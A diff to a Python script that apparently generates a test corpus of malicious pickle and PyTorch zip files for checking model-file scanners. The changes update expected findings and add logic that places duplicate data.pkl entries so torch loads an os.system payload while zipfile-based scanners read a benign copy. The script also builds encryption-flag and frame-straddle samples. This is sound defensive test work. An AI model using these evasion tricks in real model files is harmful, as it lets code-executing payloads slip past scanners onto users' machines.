@@ -180,6 +180,9 @@ class Stub:
     def __setstate__(self, state):
         pass
 
+    def __setitem__(self, key, value):
+        pass
+
 
 class Recorder(pickle.Unpickler):
     """C unpickler in file mode (like torch.load / np.load / pickle.load(f))."""
@@ -558,7 +561,7 @@ def opcode_tricks():
          "STACK_GLOBAL fed by protocol-0 STRING 'os' / 'system' (decoded to str, accepted by C).")
 
     ext = PROTO(2) + b"\x82\xc8" + enc(CMD) + TUPLE1 + REDUCE + STOP
-    emit(d + "ext1_code.pkl", ext, "pickle", False, ["PDG105"], [],
+    emit(d + "ext1_code.pkl", ext, "pickle", False, ["PDG105", "PDG103"], [],
          "EXT1 0xC8 (code 200) then REDUCE. The copyreg registry is empty by default, so this only resolves if the host ran copyreg.add_extension(...) (e.g. ('os','system',200)); nothing names the callable statically.")
 
     inst = MARK + b"S'" + CMD.encode() + b"'\n" + b"ios\nsystem\n" + STOP
@@ -587,7 +590,7 @@ def opcode_tricks():
          "LONG_BINPUT 0xFFFFFFFF: the C unpickler grows its memo array to 2*i slots (~64 GiB). Resource exhaustion; a scanner must not allocate by index.")
 
     hl = PROTO(4) + b"\x8d" + struct.pack("<Q", 1 << 62) + b"pedigree" + STOP
-    emit(d + "huge_declared_length.pkl", hl, "pickle", False, ["PDG106"], [],
+    emit(d + "huge_declared_length.pkl", hl, "pickle", False, ["PDG106", "PDG103"], [],
          "BINUNICODE8 declaring 2**62 bytes with 9 bytes present. A scanner must not allocate the declared length (also a truncated stream).")
 
     unk = PROTO(2) + GLOBAL("pedigree_corpus.models", "Net") + EMPTY_TUPLE + b"\x81" + EMPTY_DICT + BUILD + STOP
@@ -632,7 +635,7 @@ def frame_samples():
         raise AssertionError("pure-python unpickler accepted the straddle")
     except pickle.UnpicklingError:
         pass
-    emit(d + "frame_straddle_print.pkl", fs, "pickle", False, ["PDG104"], [],
+    emit(d + "frame_straddle_print.pkl", fs, "pickle", False, ["PDG104", "PDG102"], [],
          "CPython issue 154848: FRAME(4) ends 2 bytes into an 8-byte SHORT_BINUNICODE argument. pickletools/pickle.loads see a str and a bytes object and no GLOBAL; C Unpickler(BytesIO) skips 2 bytes and runs hidden STACK_GLOBAL builtins.print('pedigree-test'). Bypasses every genops-based scanner (picklescan, modelscan, fickling).")
 
     sy = SG("os", "system") + SHORT_BINUNICODE(CMD) + TUPLE1 + REDUCE
@@ -745,7 +748,7 @@ def torch_samples(fs_print: bytes):
     e = replace_member(base, "/data.pkl", evil_pkl)
     t = [x for x in e if x["name"].endswith("/data.pkl")][0]
     t["lh_flags"] = t["cd_flags"] = 0x1
-    emit(md + "zip_encrypt_flag_central.pt", build_zip(e), "torch-zip", False, ["PDG202"], [],
+    emit(md + "zip_encrypt_flag_central.pt", build_zip(e), "torch-zip", False, ["PDG202", "PDG101"], ["os.system"],
          "CVE-2025-1945: encryption bit 0x1 set on data.pkl in both headers, data actually plaintext and malicious (os.system). zipfile raises 'password required'; torch 2.15 refuses ('unsupported encryption'), older torch may not. A scanner should either scan the plaintext (PDG101 os.system) or report PDG207; only PDG202 is certain.")
 
     e = replace_member(base, "/data.pkl", evil_pkl)
@@ -755,19 +758,31 @@ def torch_samples(fs_print: bytes):
       "CVE-2025-1944: local header says <a>/data.pkX, central directory says <a>/data.pkl (malicious). zipfile raises BadZipFile; torch uses the CD name and loads it.")
     assert "os.system" in torch_reader_record(build_zip(e))
 
+    # Duplicates. Python zipfile always returns the LAST entry of a name.
+    # torch's miniz reader binary-searches a name-sorted index, so which of two
+    # equal names it returns depends on where they sit (measured with torch
+    # 2.15: adjacent -> the second; far apart -> often the first).
+    # FORMATS-FACTS §5.1 says "first"; we measure and record it per sample.
+    i = [k for k, x in enumerate(base) if x["name"].endswith("/data.pkl")][0]
     e = copy.deepcopy(base)
-    i = [k for k, x in enumerate(e) if x["name"].endswith("/data.pkl")][0]
     e.insert(i + 1, {"name": e[i]["name"], "data": evil_pkl})
+    torch_sees = "malicious" if "os.system" in torch_reader_record(build_zip(e)) else "benign"
     z(e, "zip_duplicate_first_benign.pt", ["PDG204"],
-      "Two <a>/data.pkl entries: first benign (torch/miniz picks the first), last malicious (Python zipfile picks the last). Any scanner reading by name sees one of them only.")
+      "Two adjacent <a>/data.pkl entries: first benign, last malicious. Python zipfile (picklescan, modelscan) reads the last = malicious; "
+      f"torch 2.15's reader returns the {torch_sees} one here. A scanner reading by name sees only one of them.")
 
-    e = copy.deepcopy(base)
-    i = [k for k, x in enumerate(e) if x["name"].endswith("/data.pkl")][0]
-    e.insert(i + 1, copy.deepcopy(e[i]))
-    e[i]["data"] = evil_pkl
-    z(e, "zip_duplicate_first_malicious.pt", ["PDG204"],
-      "Two <a>/data.pkl entries: first malicious (what torch.load runs), last benign (what Python zipfile / picklescan / modelscan read). Bypasses zipfile-based scanners.")
-    assert "os.system" in torch_reader_record(build_zip(e))
+    chosen = None
+    for j in range(i + 1, len(base) + 1):
+        e = copy.deepcopy(base)
+        e.insert(j, copy.deepcopy(e[i]))
+        e[i]["data"] = evil_pkl
+        if "os.system" in torch_reader_record(build_zip(e)):
+            chosen = e
+            break
+    assert chosen is not None, "no placement makes torch read the first duplicate"
+    z(chosen, "zip_duplicate_first_malicious.pt", ["PDG204"],
+      "Two <a>/data.pkl entries: first malicious, last benign, placed so that torch 2.15's reader returns the first (malicious) one (verified with torch._C.PyTorchFileReader) "
+      "while Python zipfile (picklescan, modelscan, fickling) reads the last = benign. Bypasses zipfile-based scanners.")
 
     e = replace_member(base, "/data.pkl", evil_pkl)
     z(e, "zip_bytes_prepended.pt", ["PDG205"],
@@ -775,7 +790,7 @@ def torch_samples(fs_print: bytes):
       prepend=b"PEDIGREE-TEST-PREPENDED-JUNK-".ljust(64, b"\x00"))
 
     e = replace_member(base, "/data.pkl", fs_print)
-    emit(md + "zip_frame_straddle.pt", build_zip(e), "torch-zip", False, ["PDG104"], [],
+    emit(md + "zip_frame_straddle.pt", build_zip(e), "torch-zip", False, ["PDG104", "PDG102"], [],
          "torch zip whose data.pkl is the FRAME straddle (issue 154848): torch.load wraps data.pkl in BytesIO, so the C unpickler runs the hidden builtins.print('pedigree-test'); pickletools sees no global.")
     assert torch_reader_record(build_zip(e)) == ["builtins.print"]
 
@@ -1073,4 +1088,9 @@ def main():
 
 
 if __name__ == "__main__":
+    # TorchScript's generated code lists Final attributes in set order: pin the
+    # hash seed so torchscript samples are byte-identical between runs.
+    if os.environ.get("PYTHONHASHSEED") != "0":
+        os.environ["PYTHONHASHSEED"] = "0"
+        os.execv(sys.executable, [sys.executable, *sys.argv])
     main()
